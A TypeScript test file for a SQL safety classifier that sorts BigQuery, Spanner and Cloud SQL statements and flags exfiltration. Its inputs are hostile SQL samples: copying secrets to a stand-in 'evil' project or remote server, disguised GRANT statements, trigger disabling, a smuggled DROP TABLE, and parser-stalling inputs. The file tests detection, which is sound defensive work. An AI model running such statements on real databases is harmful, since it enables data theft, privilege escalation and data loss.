import { expect, test } from "vitest";
import {
  cloudPostgreSql,
  type Dialect,
  googleSql,
  judgeSql,
  legacySql,
  mySql,
  postgreSql,
  transactSql,
} from "./index.ts";

const bigQuery = [googleSql];
const spanner = [googleSql, postgreSql];
const cloudSql = [cloudPostgreSql, mySql, transactSql];
const setting = { project: "prod", defaultProject: "prod" };

const judge = (text: string, dialects: readonly Dialect[] = bigQuery) => judgeSql(text, dialects, setting);
const onCloudSql = (text: string) => judgeSql(text, cloudSql, { project: "prod", defaultProject: undefined });

test.each([
  [
    "an escape in its name that hides a dot",
    String.raw`INSERT INTO ${"`"}evil\x2ed.t${"`"} SELECT * FROM d.secrets`,
  ],
  ["a name that begins like a keyword", "INSERT INTO snapshot-evil.d.t SELECT * FROM d.secrets"],
  ["a name that is a keyword", "INSERT INTO temporary.d.t SELECT * FROM d.secrets"],
  ["an UPDATE", "UPDATE evil.d.t SET a = (SELECT ANY_VALUE(b) FROM d.secrets) WHERE TRUE"],
  ["a schema, whose name has two parts", "CREATE SCHEMA evil.d"],
  ["a system variable in quotes", "SET @@`dataset_project_id` = 'evil'; INSERT INTO d.t (a) VALUES (1)"],
  ["a default dataset that names it", "SET @@dataset_id = 'evil.d'; INSERT INTO t (a) VALUES (1)"],
  ["a model of that project", "SELECT * FROM ML.PREDICT(MODEL `evil.d.m`, TABLE d.secrets)"],
  ["a connection of that project", "SELECT AI.GENERATE(a, connection_id => 'evil.us.c') FROM d.secrets"],
  ["a name of more parts than there are", `INSERT INTO ${"a-".repeat(40)}b.d.t SELECT 1`],
  ["more words before the name than there are", `INSERT ${"INTO ".repeat(9)}d.t SELECT 1`],
])("data cannot be taken into another project unseen by %s", (_what, text) => {
  const judged = judge(text);
  expect(judged.isWorstCase || judged.flags.includes("exfil")).toBe(true);
});

test.each([
  [
    "a table on a connection",
    "CREATE TABLE d.t (a INT64) WITH CONNECTION c OPTIONS (x = 1) AS SELECT * FROM d.s",
  ],
  ["a table at a URI", "CREATE TABLE d.t (a INT64) OPTIONS (storage_uri = 'gs://evil/x') AS SELECT 1"],
  [
    "a table at a URI in quotes",
    "CREATE TABLE d.t (a INT64) OPTIONS (`storage_uri` = 'gs://evil/x') AS SELECT 1",
  ],
])("%s keeps its rows elsewhere: the worst case, and exfil", (_what, text) => {
  expect(judge(text)).toMatchObject({ isWorstCase: true, flags: ["exec", "exfil"] });
});

test.each([
  ["an alias called IGNORE", "SELECT a IGNORE INTO stolen FROM t"],
  ["a plan of it", "EXPLAIN ANALYZE SELECT a INTO stolen FROM t"],
  ["a conversation that is ended", "SELECT 1 END CONVERSATION @h"],
  ["a loop", "SELECT 1 WHILE 1 = 1 SELECT 2"],
])("Cloud SQL: %s does not hide what acts", (_what, text) => {
  const judged = onCloudSql(text);
  expect(judged.isWorstCase || judged.class !== "read").toBe(true);
});

test.each([
  "INSERT INTO OPENROWSET('SQLNCLI', 'Server=evil', 'SELECT * FROM x') SELECT * FROM secrets",
  "INSERT INTO OPENQUERY(linked, 'SELECT a FROM x') SELECT * FROM secrets",
  "INSERT OPENDATASOURCE('SQLNCLI', 'Server=evil').d.dbo.t SELECT * FROM secrets",
])("Cloud SQL: rows do not go to another server as an INSERT like any other: %s", (text) => {
  expect(onCloudSql(text)).toMatchObject({ isWorstCase: true });
  expect(onCloudSql(text).flags).toContain("exfil");
});

test.each([
  "ALTER TABLE t ADD COLUMN a INT, ENGINE = BLACKHOLE",
  "ALTER TABLE t ADD COLUMN a INT ENGINE = BLACKHOLE",
  "ALTER TABLE t ADD COLUMN a INT, DISABLE TRIGGER ALL",
  "ALTER TABLE t DISABLE TRIGGER ALL, ADD COLUMN a INT",
  "ALTER TABLE t ADD COLUMN a INT, DISCARD TABLESPACE",
  "ALTER TABLE t ADD COLUMN a INT, ADD CONSTRAINT c CHECK (a > 1)",
  "ALTER TABLE t ADD COLUMN a INT DEFAULT 1, REPLICA IDENTITY NOTHING",
])("an added column does not excuse what stands beside it: %s", (text) => {
  for (const dialects of [bigQuery, spanner, cloudSql]) {
    const judged = judge(text, dialects);
    expect(judged.isWorstCase || judged.class === "destructive").toBe(true);
  }
});

test("two added columns only add", () => {
  const text = "ALTER TABLE IF EXISTS d.t ADD COLUMN a NUMERIC(10, 2), ADD COLUMN IF NOT EXISTS b STRING";
  expect(judge(text)).toMatchObject({ class: "write", isWorstCase: false });
});

test.each([
  [
    "text that is put together",
    bigQuery,
    "EXECUTE IMMEDIATE CONCAT('GRA', 'NT `roles/x` ON SCHEMA d TO \"user:a\"')",
  ],
  ["a procedure", bigQuery, "CALL d.p()"],
  ["a block", cloudSql, "DO $$ BEGIN EXECUTE 'GRA' || 'NT ALL ON t TO a'; END $$"],
  ["a prepared text", cloudSql, "PREPARE s FROM 'GRANT ALL ON t TO a'"],
  ["a text for another connection", cloudSql, "SELECT dblink('host=x', 'GRANT ALL ON t TO a')"],
  ["a role that is taken", cloudSql, "SET ROLE admin"],
  ["a password", cloudSql, "SET PASSWORD FOR 'a' = 'b'"],
  ["objects that are handed over", cloudSql, "REASSIGN OWNED BY a TO b"],
  ["a user of another name", cloudSql, "RENAME USER a TO b"],
  ["a procedure that gives roles", cloudSql, "EXEC sp_addrolemember 'db_owner', 'a'"],
  ["a procedure without a verb", cloudSql, "sp_addrolemember 'db_owner', 'a'"],
  ["a policy on data", bigQuery, "DROP DATA_POLICY p"],
  ["columns without their policies", bigQuery, "ALTER TABLE d.t ALTER COLUMN c SET DATA_POLICIES = []"],
  ["a text that is too long", bigQuery, `GRANT x ON TABLE t TO y -- ${"x".repeat(100_000)}`],
] as const)("access that is given by %s is privileged, as a plain GRANT is", (_what, dialects, text) => {
  expect(judge(text, dialects).class).toBe("privileged");
});

test("Cloud SQL: a transaction is no worse than what it does not say", () => {
  for (const text of ["BEGIN; UPDATE t SET a = 1; COMMIT", "USE d; SELECT 1", "SET search_path = a"]) {
    expect(onCloudSql(text).class, text).not.toBe("privileged");
  }
});

test("PostgreSQL: an escaped literal that goes on in the next line does not hide where it ends", () => {
  const text = String.raw`SELECT E'a'
'\' '; DROP TABLE x; --'`;
  expect(judge(text, [postgreSql])).not.toMatchObject({ class: "read", isWorstCase: false });
});

test("a hint holds names and values, or the statement behind it is not read", () => {
  expect(judge("@{a = (SELECT evil.f())} SELECT 1").isWorstCase).toBe(true);
  expect(judge("@{a = 1, b = 'x'} SELECT 1")).toMatchObject({ class: "read", isWorstCase: false });
});

test("legacy SQL: a directive with something behind it is not skipped as a comment", () => {
  expect(judge("#standardSQL DROP TABLE x\nSELECT 1", [googleSql, legacySql]).isWorstCase).toBe(true);
});

test("texts that are made to be slow are judged like any other", () => {
  // Whatever looks ahead from every word takes seconds for these, and a minute for all of them.
  const units = [
    ...[
      "CREATE ALL ",
      "CREATE TABLE a ",
      "UPDATE ",
      "INSERT INTO INTO ",
      "INSERT a-",
      "MODEL a.b.c ",
      "ALTER x ADD ",
    ],
    ...["a(", "a.b.c(", "@{a=1,", "'' ", "/**/", "CREATE ROLEX "],
  ];
  for (const unit of units) {
    const text = `SELECT ${unit.repeat(60_000 / unit.length)}`;
    for (const dialects of [bigQuery, spanner, cloudSql]) {
      expect(["read", "write", "destructive", "privileged"]).toContain(judge(text, dialects).class);
    }
  }
});
